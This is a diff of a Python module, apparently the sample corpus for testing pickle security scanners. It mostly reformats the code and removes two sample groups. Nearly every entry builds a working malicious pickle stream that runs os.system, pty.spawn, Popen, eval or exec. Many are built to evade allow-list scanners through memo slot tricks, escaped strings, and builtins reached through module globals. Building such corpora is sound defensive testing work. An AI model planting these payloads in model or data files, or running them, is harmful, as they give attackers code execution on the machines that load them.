@@ -3,10 +3,9 @@
 from __future__ import annotations
 
 import struct
-from collections.abc import Callable
 from typing import Any
 
-from .asm import Build, Call, Computed, Get, Global, Memo, New, Raw, Then, encode, pickled
+from .asm import Build, Call, Global, New, Raw, Then, encode
 from .sample import EXECUTES, Kit, Maker, Sample, gadget
 
 G, C = Global, Call
@@ -17,7 +16,7 @@ SAFE = G("collections.OrderedDict")
 
 def samples() -> list[Sample]:
     """All of this module."""
-    return [*_ways_to_call(), *_objects(), *_memo(), *_names(), *_extensions()]
+    return [*_ways_to_call(), *_objects(), *_memo()]
 
 
 def raw(name: str, technique: str, make: Maker, **options: Any) -> Sample:
@@ -39,177 +38,355 @@ def call(kit: Kit) -> bytes:
 
 def _ways_to_call() -> list[Sample]:
     return [
-        raw("inst", "INST calls a function as if it were a class", lambda k: b"(" + encode(k.shell, 0) + b"ios\nsystem\n."),
+        raw(
+            "inst",
+            "INST calls a function as if it were a class",
+            lambda k: b"(" + encode(k.shell, 0) + b"ios\nsystem\n.",
+        ),
         raw("obj", "OBJ calls what lies on the stack", lambda k: b"\x80\x02(cos\nsystem\n" + text(k.shell) + b"o."),
-        raw("obj-pop", "OBJ, its result popped and a plain value left",
-            lambda k: b"\x80\x02(cos\nsystem\n" + text(k.shell) + b"o0}.", reference="GHSA-mxhj-88fx-4pcv"),
-        raw("obj-stack-global", "OBJ with a callable from STACK_GLOBAL",
-            lambda k: b"\x80\x04(" + encode(SYSTEM, 4) + encode(k.shell, 4) + b"o."),
-        raw("obj-pty", "OBJ with pty.spawn, the result unused", lambda k: b"(cpty\nspawn\n" + encode(k.argv, 0) + b"o.",
-            calls=("pty.spawn",), reference="fickling pull 108"),
+        raw(
+            "obj-pop",
+            "OBJ, its result popped and a plain value left",
+            lambda k: b"\x80\x02(cos\nsystem\n" + text(k.shell) + b"o0}.",
+            reference="GHSA-mxhj-88fx-4pcv",
+        ),
+        raw(
+            "obj-stack-global",
+            "OBJ with a callable from STACK_GLOBAL",
+            lambda k: b"\x80\x04(" + encode(SYSTEM, 4) + encode(k.shell, 4) + b"o.",
+        ),
+        raw(
+            "obj-pty",
+            "OBJ with pty.spawn, the result unused",
+            lambda k: b"(cpty\nspawn\n" + encode(k.argv, 0) + b"o.",
+            calls=("pty.spawn",),
+            reference="fickling pull 108",
+        ),
         raw("reduce-pop", "REDUCE, its result popped", lambda k: b"\x80\x02" + call(k) + b"0}."),
-        raw("reduce-pop-mark", "REDUCE inside a MARK that POP_MARK throws away", lambda k: b"\x80\x02(" + call(k) + b"1}."),
-        raw("reduce-dup", "DUP of the callable, the copy called", lambda k: b"\x80\x02cos\nsystem\n2" + text(k.shell) + b"\x85R."),
-        raw("reduce-then-build", "an empty BUILD appended to the call", lambda k: b"\x80\x02" + call(k) + b"}b.",
-            reference="GHSA-mhc9-48gj-9gp3"),
-        gadget("newobj-popen", "NEWOBJ of subprocess.Popen creates but does not run it; its __init__ is called by name",
-               lambda k: C(G("subprocess", "Popen.__init__"), New(G("subprocess.Popen")), k.argv)),
-        gadget("newobj-ex", "NEWOBJ_EX with keyword arguments", lambda k: C(New(G("functools.partial"), SYSTEM, command=k.shell)),
-               calls=NAMED),
-        gadget("copyreg-newobj", "copyreg.__newobj__", lambda k: C(C(G("copyreg.__newobj__"), G("functools.partial"), SYSTEM, k.shell)),
-               calls=NAMED),
-        gadget("copyreg-newobj-ex", "copyreg.__newobj_ex__",
-               lambda k: C(C(G("copyreg.__newobj_ex__"), G("functools.partial"), (SYSTEM, k.shell), {})), calls=NAMED),
-        gadget("dict-value", "the call is a value deep in a state dict",
-               lambda k: {"state_dict": {"layer.weight": [1.0, 2.0], "layer.bias": {"x": C(SYSTEM, k.shell)}}}, calls=NAMED),
+        raw(
+            "reduce-pop-mark",
+            "REDUCE inside a MARK that POP_MARK throws away",
+            lambda k: b"\x80\x02(" + call(k) + b"1}.",
+        ),
+        raw(
+            "reduce-dup",
+            "DUP of the callable, the copy called",
+            lambda k: b"\x80\x02cos\nsystem\n2" + text(k.shell) + b"\x85R.",
+        ),
+        raw(
+            "reduce-then-build",
+            "an empty BUILD appended to the call",
+            lambda k: b"\x80\x02" + call(k) + b"}b.",
+            reference="GHSA-mhc9-48gj-9gp3",
+        ),
+        gadget(
+            "newobj-popen",
+            "NEWOBJ of subprocess.Popen creates but does not run it; its __init__ is called by name",
+            lambda k: C(G("subprocess", "Popen.__init__"), New(G("subprocess.Popen")), k.argv),
+        ),
+        gadget(
+            "newobj-ex",
+            "NEWOBJ_EX with keyword arguments",
+            lambda k: C(New(G("functools.partial"), SYSTEM, command=k.shell)),
+            calls=NAMED,
+        ),
+        gadget(
+            "copyreg-newobj",
+            "copyreg.__newobj__",
+            lambda k: C(C(G("copyreg.__newobj__"), G("functools.partial"), SYSTEM, k.shell)),
+            calls=NAMED,
+        ),
+        gadget(
+            "copyreg-newobj-ex",
+            "copyreg.__newobj_ex__",
+            lambda k: C(C(G("copyreg.__newobj_ex__"), G("functools.partial"), (SYSTEM, k.shell), {})),
+            calls=NAMED,
+        ),
+        gadget(
+            "dict-value",
+            "the call is a value deep in a state dict",
+            lambda k: {"state_dict": {"layer.weight": [1.0, 2.0], "layer.bias": {"x": C(SYSTEM, k.shell)}}},
+            calls=NAMED,
+        ),
         gadget("dict-key", "the call is a key", lambda k: C(SAFE, [[C(SYSTEM, k.shell), 1]]), calls=NAMED),
-        gadget("argument-of-safe", "the call is an argument of an allow-listed constructor",
-               lambda k: C(SAFE, [["a", C(SYSTEM, k.shell)]]), calls=NAMED),
-    ]  # fmt: skip
+        gadget(
+            "argument-of-safe",
+            "the call is an argument of an allow-listed constructor",
+            lambda k: C(SAFE, [["a", C(SYSTEM, k.shell)]]),
+            calls=NAMED,
+        ),
+    ]
 
 
 def _objects() -> list[Sample]:
     """BUILD, APPEND, SETITEM and ADDITEMS call methods that the stream itself put on the object."""
     space = C(G("types.SimpleNamespace"))
-    made = lambda name, value: C(C(G("builtins.type"), "X", (), {name: value}))  # noqa: E731
+    made = lambda name, value: C(C(G("builtins.type"), "X", (), {name: value}))
     return [
-        gadget("setstate-attribute", "BUILD sets __setstate__ on an instance, the next BUILD calls it",
-               lambda k: Build(Build(space, {"__setstate__": SYSTEM}), k.shell), calls=NAMED),
-        gadget("setstate-class", "a class made by type() with __setstate__", lambda k: Build(made("__setstate__", SYSTEM), k.shell),
-               calls=NAMED),
-        gadget("append-attribute", "APPEND calls the append that BUILD put there",
-               lambda k: Raw(encode(Build(space, {"append": SYSTEM}), 4) + encode(k.shell, 4) + b"a"), calls=NAMED),
-        gadget("appends-extend", "APPENDS calls extend", lambda k: Raw(
-            encode(Build(space, {"extend": C(G("functools.partial"), G("functools.reduce"), G("operator.call"))}), 4)
-            + b"(" + encode(SYSTEM, 4) + encode(k.shell, 4) + b"e"), calls=NAMED),
-        gadget("additems-add", "ADDITEMS calls add",
-               lambda k: Raw(encode(Build(space, {"add": SYSTEM}), 4) + b"(" + encode(k.shell, 4) + b"\x90"), calls=NAMED),
-        gadget("setitem-sys-modules", "SETITEM opcode writes os into sys.modules under another name", lambda k: Then(
-            Raw(encode(G("sys.modules"), 4) + encode("harmless_name", 4) + encode(G("shutil", "os"), 4) + b"s"),
-            C(G("harmless_name.system"), k.shell)), calls=("harmless_name.system", "sys.modules", "shutil.os")),
-        gadget("append-path-hooks", "APPEND opcode on sys.path_hooks", lambda k: Then(
-            Raw(encode(G("sys.path_hooks"), 4) + encode(SYSTEM, 4) + b"a"), Raw(encode(G("sys.path"), 4) + encode(k.shell, 4) + b"a"),
-            C(G("importlib.util.find_spec"), "a_module_that_is_not_there")), calls=(*NAMED, "sys.path_hooks")),
-        gadget("build-module", "BUILD overwrites an allow-listed function inside its module, then calls it by its good name",
-               lambda k: Then(Build(G("logging", "collections"), {"OrderedDict": SYSTEM}), C(SAFE, k.shell)), calls=(*NAMED, "logging.collections")),
-        gadget("build-function", "BUILD replaces the code of a function", lambda k: Then(
-            Build(G("collections.namedtuple"), (None, {"__code__": C(G("builtins.compile"), k.code, "x", "exec")})),
-            C(G("collections.namedtuple"))), calls=("builtins.compile",)),
-        gadget("builtins-through-module", "eval taken out of a module's __builtins__ dictionary",
-               lambda k: C(C(G("builtins", "dict.get"), G("collections", "__builtins__"), "eval"), k.code),
-               calls=("collections.__builtins__", "builtins.dict.get", "builtins.eval")),
-        gadget("globals-through-function", "os taken out of a function's __globals__",
-               lambda k: C(C(G("builtins", "dict.get"), G("os", "walk.__globals__"), "system"), k.shell),
-               calls=("os.walk.__globals__", "builtins.dict.get")),
-        gadget("getattr-on-known-class", "object.__subclasses__ by dotted name, no os anywhere", lambda k: C(
-            C(G("builtins", "dict.get"), G("warnings", "catch_warnings.__init__.__builtins__"), "exec"), k.code),
-            calls=("warnings.catch_warnings.__init__.__builtins__", "builtins.dict.get")),
-        gadget("reduce-of-instance", "an instance with __call__ of a made class",
-               lambda k: C(made("__call__", SYSTEM), k.shell), calls=NAMED),
-        gadget("metaclass-getitem", "__class_getitem__ of a made class", lambda k: C(
-            G("operator.getitem"), C(G("builtins.type"), "X", (), {"__class_getitem__": SYSTEM}), k.shell), calls=NAMED),
-        gadget("init-subclass", "__init_subclass__ and __set_name__ run while type() makes the class", lambda k: C(
-            G("builtins.type"), "X", (C(G("builtins.type"), "Y", (), {"__init_subclass__": C(G("functools.partial"), SYSTEM, k.shell)}),), {}),
-            calls=NAMED),
-        gadget("del-method", "__del__ of a made class runs when the object dies", lambda k: Then(
-            made("__del__", C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))), {}), calls=(*NAMED, "copy._reconstruct")),
-        gadget("hash-method", "__hash__ of a made class runs when the object becomes a key", lambda k: {
-            "x": Raw(b"}" + encode(made("__hash__", C(G("functools.partial"), SYSTEM, k.shell)), 4) + b"Ns")}, calls=NAMED),
-    ]  # fmt: skip
+        gadget(
+            "setstate-attribute",
+            "BUILD sets __setstate__ on an instance, the next BUILD calls it",
+            lambda k: Build(Build(space, {"__setstate__": SYSTEM}), k.shell),
+            calls=NAMED,
+        ),
+        gadget(
+            "setstate-class",
+            "a class made by type() with __setstate__",
+            lambda k: Build(made("__setstate__", SYSTEM), k.shell),
+            calls=NAMED,
+        ),
+        gadget(
+            "append-attribute",
+            "APPEND calls the append that BUILD put there",
+            lambda k: Raw(encode(Build(space, {"append": SYSTEM}), 4) + encode(k.shell, 4) + b"a"),
+            calls=NAMED,
+        ),
+        gadget(
+            "appends-extend",
+            "APPENDS calls extend",
+            lambda k: Raw(
+                encode(
+                    Build(space, {"extend": C(G("functools.partial"), G("functools.reduce"), G("operator.call"))}), 4
+                )
+                + b"("
+                + encode(SYSTEM, 4)
+                + encode(k.shell, 4)
+                + b"e"
+            ),
+            calls=NAMED,
+        ),
+        gadget(
+            "additems-add",
+            "ADDITEMS calls add",
+            lambda k: Raw(encode(Build(space, {"add": SYSTEM}), 4) + b"(" + encode(k.shell, 4) + b"\x90"),
+            calls=NAMED,
+        ),
+        gadget(
+            "setitem-sys-modules",
+            "SETITEM opcode writes os into sys.modules under another name",
+            lambda k: Then(
+                Raw(encode(G("sys.modules"), 4) + encode("harmless_name", 4) + encode(G("shutil", "os"), 4) + b"s"),
+                C(G("harmless_name.system"), k.shell),
+            ),
+            calls=("harmless_name.system", "sys.modules", "shutil.os"),
+        ),
+        gadget(
+            "append-path-hooks",
+            "APPEND opcode on sys.path_hooks",
+            lambda k: Then(
+                Raw(encode(G("sys.path_hooks"), 4) + encode(SYSTEM, 4) + b"a"),
+                Raw(encode(G("sys.path"), 4) + encode(k.shell, 4) + b"a"),
+                C(G("importlib.util.find_spec"), "a_module_that_is_not_there"),
+            ),
+            calls=(*NAMED, "sys.path_hooks"),
+        ),
+        gadget(
+            "build-module",
+            "BUILD overwrites an allow-listed function inside its module, then calls it by its good name",
+            lambda k: Then(Build(G("logging", "collections"), {"OrderedDict": SYSTEM}), C(SAFE, k.shell)),
+            calls=(*NAMED, "logging.collections"),
+        ),
+        gadget(
+            "build-function",
+            "BUILD replaces the code of a function",
+            lambda k: Then(
+                Build(G("collections.namedtuple"), (None, {"__code__": C(G("builtins.compile"), k.code, "x", "exec")})),
+                C(G("collections.namedtuple")),
+            ),
+            calls=("builtins.compile",),
+        ),
+        gadget(
+            "builtins-through-module",
+            "eval taken out of a module's __builtins__ dictionary",
+            lambda k: C(C(G("builtins", "dict.get"), G("collections", "__builtins__"), "eval"), k.code),
+            calls=("collections.__builtins__", "builtins.dict.get", "builtins.eval"),
+        ),
+        gadget(
+            "globals-through-function",
+            "os taken out of a function's __globals__",
+            lambda k: C(C(G("builtins", "dict.get"), G("os", "walk.__globals__"), "system"), k.shell),
+            calls=("os.walk.__globals__", "builtins.dict.get"),
+        ),
+        gadget(
+            "getattr-on-known-class",
+            "object.__subclasses__ by dotted name, no os anywhere",
+            lambda k: C(
+                C(G("builtins", "dict.get"), G("warnings", "catch_warnings.__init__.__builtins__"), "exec"), k.code
+            ),
+            calls=("warnings.catch_warnings.__init__.__builtins__", "builtins.dict.get"),
+        ),
+        gadget(
+            "reduce-of-instance",
+            "an instance with __call__ of a made class",
+            lambda k: C(made("__call__", SYSTEM), k.shell),
+            calls=NAMED,
+        ),
+        gadget(
+            "metaclass-getitem",
+            "__class_getitem__ of a made class",
+            lambda k: C(G("operator.getitem"), C(G("builtins.type"), "X", (), {"__class_getitem__": SYSTEM}), k.shell),
+            calls=NAMED,
+        ),
+        gadget(
+            "init-subclass",
+            "__init_subclass__ and __set_name__ run while type() makes the class",
+            lambda k: C(
+                G("builtins.type"),
+                "X",
+                (C(G("builtins.type"), "Y", (), {"__init_subclass__": C(G("functools.partial"), SYSTEM, k.shell)}),),
+                {},
+            ),
+            calls=NAMED,
+        ),
+        gadget(
+            "del-method",
+            "__del__ of a made class runs when the object dies",
+            lambda k: Then(
+                made("__del__", C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))), {}
+            ),
+            calls=(*NAMED, "copy._reconstruct"),
+        ),
+        gadget(
+            "hash-method",
+            "__hash__ of a made class runs when the object becomes a key",
+            lambda k: {
+                "x": Raw(b"}" + encode(made("__hash__", C(G("functools.partial"), SYSTEM, k.shell)), 4) + b"Ns")
+            },
+            calls=NAMED,
+        ),
+    ]
 
 
 def _memo() -> list[Sample]:
     mixed = (
-        text("os") + b"q\x00" + text("system") + b"q\x01" + b"0" + b"0"
-        + text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94" + b"00"
-    )  # fmt: skip
+        text("os")
+        + b"q\x00"
+        + text("system")
+        + b"q\x01"
+        + b"0"
+        + b"0"
+        + text("torch._utils")
+        + b"\x94"
+        + text("_rebuild_tensor_v2")
+        + b"\x94"
+        + b"00"
+    )
     return [
-        raw("memo-mixed", "BINPUT and MEMOIZE mixed so that a naive memo holds safe names",
-            lambda k: b"\x80\x04" + mixed + b"h\x00h\x01\x93" + text(k.shell) + b"\x85R.", reference="picklescan issue 14"),
-        raw("memo-overwritten", "the same memo slot is written twice",
-            lambda k: b"\x80\x04" + text("collections") + b"q\x05" + text("OrderedDict") + b"q\x06" + b"00"
-            + text("os") + b"q\x05" + text("system") + b"q\x06" + b"00h\x05h\x06\x93" + text(k.shell) + b"\x85R."),
-        raw("memo-text-index", "PUT and GET with decimal text and leading zeros",
-            lambda k: b"\x80\x04" + text("os") + b"p007\n" + text("system") + b"p008\n" + b"00g7\ng8\n\x93" + text(k.shell) + b"\x85R.",
-            reference="picklescan issue 22"),
-        raw("memo-long-index", "LONG_BINPUT with an index of one million",
-            lambda k: b"\x80\x04cos\nsystem\nr" + struct.pack("<I", 1_000_000) + b"0j" + struct.pack("<I", 1_000_000) + text(k.shell) + b"\x85R."),
-        raw("memo-callable", "the callable comes from the memo, long after its GLOBAL",
-            lambda k: b"\x80\x02cos\nsystem\nq\x000" + b"N0" * 500 + b"h\x00" + text(k.shell) + b"\x85R."),
-        raw("memo-argument-tuple", "the argument tuple comes from the memo",
-            lambda k: b"\x80\x02" + text(k.shell) + b"\x85q\x000cos\nsystem\nh\x00R."),
-        raw("memo-self-reference", "a list that holds itself before the call",
-            lambda k: b"\x80\x02]q\x00h\x00a" + call(k) + b"a."),
-        raw("string-opcodes", "STACK_GLOBAL fed by SHORT_BINSTRING", lambda k: b"\x80\x04U\x02osU\x06system\x93" + text(k.shell) + b"\x85R."),
-        raw("string-escapes", "STACK_GLOBAL fed by STRING with escapes",
-            lambda k: b"\x80\x04S'\\x6f\\x73'\nS'\\163ystem'\n\x93" + text(k.shell) + b"\x85R."),
-        raw("unicode-escapes", "STACK_GLOBAL fed by UNICODE with \\u escapes",
-            lambda k: b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + text(k.shell) + b"\x85R."),
-        raw("binunicode8", "STACK_GLOBAL fed by BINUNICODE8",
-            lambda k: b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + text(k.shell) + b"\x85R."),
-        raw("names-with-junk-between", "names, then hundreds of opcodes, then STACK_GLOBAL",
-            lambda k: b"\x80\x04" + text("os") + b"(" + b"N" * 300 + b"1" + text("system") + b"K\x01" * 50 + b"0" * 50 + b"\x93" + text(k.shell) + b"\x85R."),
-        raw("marks-between", "the names lie under a MARK that is closed later",
-            lambda k: b"\x80\x04" + text("os") + text("system") + b"(NNN1\x93" + text(k.shell) + b"\x85R."),
-    ]  # fmt: skip
-
-
-def _names() -> list[Sample]:
-    computed: dict[str, tuple[Callable[[], Any], Callable[[], Any]]] = {
-        "join": (lambda: C(G("builtins", "str.join"), "", ["o", "s"]), lambda: "system"),
-        "rot13": (lambda: C(G("codecs.decode"), "bf", "rot13"), lambda: C(G("codecs.decode"), "flfgrz", "rot13")),
-        "hex": (lambda: C(G("_codecs.decode"), C(G("builtins", "bytes.fromhex"), "6f73")), lambda: "system"),
-        "bytes-decode": (lambda: C(G("builtins", "bytes.decode"), b"os"), lambda: "system"),
-        "add": (lambda: C(G("operator.add"), "o", "s"), lambda: C(G("operator.concat"), "sys", "tem")),
-        "replace": (lambda: C(G("builtins", "str.replace"), "xs", "x", "o"), lambda: "system"),
-        "reverse": (lambda: C(G("builtins", "str.__getitem__"), "so", C(G("builtins.slice"), None, None, -1)), lambda: "system"),
-        "chr": (lambda: C(G("operator.add"), C(G("builtins.chr"), 111), "s"), lambda: "system"),
-        "format": (lambda: C(G("builtins", "str.format"), "{}s", "o"), lambda: "system"),
-        "getattr-name": (lambda: C(G("builtins.getattr"), C(G("builtins.__import__"), "os"), "__name__"), lambda: "system"),
-        "attribute-name": (lambda: G("os", "__name__"), lambda: "system"),
-        "base64": (lambda: C(G("builtins", "bytes.decode"), C(G("base64.b64decode"), "b3M=")), lambda: "system"),
-        "dict-lookup": (lambda: C(G("operator.getitem"), {"a": "os"}, "a"), lambda: "system"),
-        "strip": (lambda: C(G("builtins", "str.strip"), " os "), lambda: C(G("builtins", "str.lower"), "SYSTEM")),
-    }  # fmt: skip
-    outer = ("STACK_GLOBAL", "computed", *NAMED)
-    found = [
-        gadget(f"computed-name-{name}", "STACK_GLOBAL fed by the result of a call",
-               lambda k, m=module, a=attribute: C(Computed(m(), a()), k.shell), calls=outer)
-        for name, (module, attribute) in computed.items()
-    ]  # fmt: skip
-    return [
-        *found,
-        gadget("computed-argument", "the code string is computed",
-               lambda k: C(G("builtins.exec"), C(G("builtins", "str.join"), "", list(k.code)))),
-        gadget("computed-callable", "the callable is chosen out of a list by a number",
-               lambda k: C(C(G("operator.getitem"), [G("builtins.print"), SYSTEM], 1), k.shell), calls=NAMED),
-        gadget("imap-py2", "itertools.imap becomes map by fix_imports", lambda k: C(G("__builtin__.list"), C(G("itertools.imap"), SYSTEM, [k.shell])),
-               protocol=2, calls=(*NAMED, "itertools.imap")),
-        gadget("cpickle-py2", "cPickle.loads becomes pickle.loads by fix_imports",
-               lambda k: C(G("cPickle.loads"), pickled(C(SYSTEM, k.shell), 0)), protocol=2, calls=("cPickle.loads", "pickle.loads", *NAMED)),
-        gadget("urllib2-py2", "urllib2.urlopen becomes urllib.request.urlopen", lambda k: C(G("urllib2.urlopen"), f"http://127.0.0.1:{k.port}/"),
-               protocol=2, listens=True, calls=("urllib2.urlopen", "urllib.request.urlopen")),
-    ]  # fmt: skip
-
-
-def _extensions() -> list[Sample]:
-    def registered(opcode: bytes, code: int) -> Callable[[Kit], Any]:
-        return lambda k: Then(C(G("copyreg.add_extension"), "os", "system", code), C(Raw(opcode), k.shell))
-
-    named = ("copyreg.add_extension", *NAMED)
-    return [
-        gadget("ext1", "copyreg.add_extension, then EXT1", registered(b"\x82\xf0", 0xF0), calls=named),
-        gadget("ext2", "copyreg.add_extension, then EXT2", registered(b"\x83\x34\x12", 0x1234), calls=named),
-        gadget("ext4", "copyreg.add_extension, then EXT4", registered(b"\x84\x78\x56\x34\x12", 0x12345678), calls=named),
-        gadget("ext-inverted-registry", "SETITEM on copyreg._inverted_registry, then EXT1", lambda k: Then(
-            Raw(encode(G("copyreg._inverted_registry"), 4) + encode(0xF1, 4) + encode(("os", "system"), 4) + b"s"),
-            C(Raw(b"\x82\xf1"), k.shell)), calls=("copyreg._inverted_registry", *NAMED)),
-        gadget("ext-cache", "SETITEM on copyreg._extension_cache, then EXT1", lambda k: Then(
-            Raw(encode(G("copyreg._extension_cache"), 4) + encode(0xF2, 4) + encode(SYSTEM, 4) + b"s"),
-            C(Raw(b"\x82\xf2"), k.shell)), calls=("copyreg._extension_cache", *NAMED)),
-        gadget("dispatch-table", "copyreg.pickle and copy.copy call the registered reducer", lambda k: Then(
-            C(G("copyreg.pickle"), G("types.SimpleNamespace"), C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,))),
-            C(G("copy.copy"), C(G("types.SimpleNamespace")))), calls=("copyreg.pickle", *NAMED)),
-        gadget("get-of-memo", "the callable passes through three memo slots",
-               lambda k: Then(Memo(1, SYSTEM), Memo(2, Get(1)), C(Get(2), k.shell)), calls=NAMED),
-    ]  # fmt: skip
+        raw(
+            "memo-mixed",
+            "BINPUT and MEMOIZE mixed so that a naive memo holds safe names",
+            lambda k: b"\x80\x04" + mixed + b"h\x00h\x01\x93" + text(k.shell) + b"\x85R.",
+            reference="picklescan issue 14",
+        ),
+        raw(
+            "memo-overwritten",
+            "the same memo slot is written twice",
+            lambda k: (
+                b"\x80\x04"
+                + text("collections")
+                + b"q\x05"
+                + text("OrderedDict")
+                + b"q\x06"
+                + b"00"
+                + text("os")
+                + b"q\x05"
+                + text("system")
+                + b"q\x06"
+                + b"00h\x05h\x06\x93"
+                + text(k.shell)
+                + b"\x85R."
+            ),
+        ),
+        raw(
+            "memo-text-index",
+            "PUT and GET with decimal text and leading zeros",
+            lambda k: (
+                b"\x80\x04"
+                + text("os")
+                + b"p007\n"
+                + text("system")
+                + b"p008\n"
+                + b"00g7\ng8\n\x93"
+                + text(k.shell)
+                + b"\x85R."
+            ),
+            reference="picklescan issue 22",
+        ),
+        raw(
+            "memo-long-index",
+            "LONG_BINPUT with an index of one million",
+            lambda k: (
+                b"\x80\x04cos\nsystem\nr"
+                + struct.pack("<I", 1_000_000)
+                + b"0j"
+                + struct.pack("<I", 1_000_000)
+                + text(k.shell)
+                + b"\x85R."
+            ),
+        ),
+        raw(
+            "memo-callable",
+            "the callable comes from the memo, long after its GLOBAL",
+            lambda k: b"\x80\x02cos\nsystem\nq\x000" + b"N0" * 500 + b"h\x00" + text(k.shell) + b"\x85R.",
+        ),
+        raw(
+            "memo-argument-tuple",
+            "the argument tuple comes from the memo",
+            lambda k: b"\x80\x02" + text(k.shell) + b"\x85q\x000cos\nsystem\nh\x00R.",
+        ),
+        raw(
+            "memo-self-reference",
+            "a list that holds itself before the call",
+            lambda k: b"\x80\x02]q\x00h\x00a" + call(k) + b"a.",
+        ),
+        raw(
+            "string-opcodes",
+            "STACK_GLOBAL fed by SHORT_BINSTRING",
+            lambda k: b"\x80\x04U\x02osU\x06system\x93" + text(k.shell) + b"\x85R.",
+        ),
+        raw(
+            "string-escapes",
+            "STACK_GLOBAL fed by STRING with escapes",
+            lambda k: b"\x80\x04S'\\x6f\\x73'\nS'\\163ystem'\n\x93" + text(k.shell) + b"\x85R.",
+        ),
+        raw(
+            "unicode-escapes",
+            "STACK_GLOBAL fed by UNICODE with \\u escapes",
+            lambda k: b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93" + text(k.shell) + b"\x85R.",
+        ),
+        raw(
+            "binunicode8",
+            "STACK_GLOBAL fed by BINUNICODE8",
+            lambda k: (
+                b"\x80\x04\x8d"
+                + struct.pack("<Q", 2)
+                + b"os\x8d"
+                + struct.pack("<Q", 6)
+                + b"system\x93"
+                + text(k.shell)
+                + b"\x85R."
+            ),
+        ),
+        raw(
+            "names-with-junk-between",
+            "names, then hundreds of opcodes, then STACK_GLOBAL",
+            lambda k: (
+                b"\x80\x04"
+                + text("os")
+                + b"("
+                + b"N" * 300
+                + b"1"
+                + text("system")
+                + b"K\x01" * 50
+                + b"0" * 50
+                + b"\x93"
+                + text(k.shell)
+                + b"\x85R."
+            ),
+        ),
+        raw(
+            "marks-between",
+            "the names lie under a MARK that is closed later",
+            lambda k: b"\x80\x04" + text("os") + text("system") + b"(NNN1\x93" + text(k.shell) + b"\x85R.",
+        ),
+    ]
